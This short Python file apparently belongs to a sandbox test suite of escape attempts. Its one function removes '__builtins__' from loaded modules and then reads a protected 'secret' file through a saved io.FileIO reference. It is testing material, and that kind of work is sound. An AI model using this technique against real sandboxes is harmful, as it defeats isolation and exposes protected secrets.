import io
import sys

from arms import P, attempt

FileIO = io.FileIO


@attempt
def deed():
    for module in list(sys.modules.values()):
        space = getattr(module, "__dict__", {})
        if module.__name__ not in ("builtins", "arms", "__main__"):
            space.pop("__builtins__", None)
    del globals()["__builtins__"]
    sys.stdout.write(FileIO(P["secret"]).read().decode())
